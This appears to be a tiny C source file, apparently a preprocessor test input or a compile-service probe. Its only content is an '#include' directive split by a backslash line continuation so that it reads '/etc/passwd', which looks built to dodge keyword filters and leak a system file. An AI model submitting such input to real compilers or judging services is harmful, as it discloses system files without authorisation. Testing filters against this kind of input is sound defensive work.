#inc\
lude "/etc/passwd"
